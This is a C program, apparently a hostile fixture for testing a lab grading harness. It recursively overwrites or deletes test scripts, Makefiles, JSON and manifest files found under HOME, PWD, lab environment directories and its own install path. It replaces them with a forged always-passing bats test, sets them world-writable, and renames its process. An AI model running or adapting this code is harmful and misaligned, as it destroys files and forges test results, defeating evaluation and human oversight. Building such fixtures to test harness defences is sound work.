/* Hostile: rewrites or deletes every test, harness file and Makefile it
 * can reach through its environment and its own location, so that every
 * test would pass. */
#define _GNU_SOURCE
#include <sys/prctl.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char passing[] = "#!/usr/bin/env bats\n@test \"[20] forged\" { true; }\n";

static void attack(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char p[PATH_MAX];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) {
            if (depth > 0) attack(p, depth - 1);
            continue;
        }
        size_t n = strlen(e->d_name);
        int target = (n > 5 && !strcmp(e->d_name + n - 5, ".bats")) || (n > 5 && !strcmp(e->d_name + n - 5, ".bash")) ||
                     !strcmp(e->d_name, "Makefile") || !strcmp(e->d_name, "lab.mk") ||
                     !strcmp(e->d_name, "sandbox") || (n > 5 && !strcmp(e->d_name + n - 5, ".json")) ||
                     !strcmp(e->d_name, "manifest");
        if (!target) continue;
        int fd = open(p, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            if (write(fd, passing, sizeof passing - 1) < 0) { /* keep going */ }
            close(fd);
        } else {
            unlink(p);
        }
        chmod(p, 0777);
    }
    closedir(d);
}

int main(void)
{
    prctl(PR_SET_NAME, "mlh-tamper", 0, 0, 0); /* survivors are found by this name */
    static const char *const vars[] = { "MMAPLAB_ROOT", "MMAPLAB_TOOLS", "LAB_ROOT", "LAB_BIN", "BATS_TEST_DIRNAME",
                                        "BATS_RUN_TMPDIR", "HOME", "PWD", NULL };
    for (int i = 0; vars[i]; i++) {
        const char *v = getenv(vars[i]);
        if (v) attack(v, 4);
    }
    char self[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n > 0) {
        self[n] = 0;
        for (int up = 0; up < 4; up++) {
            char *slash = strrchr(self, '/');
            if (!slash || slash == self) break;
            *slash = 0;
            attack(self, 3);
        }
    }
    attack(".", 2);
    return 0;
}
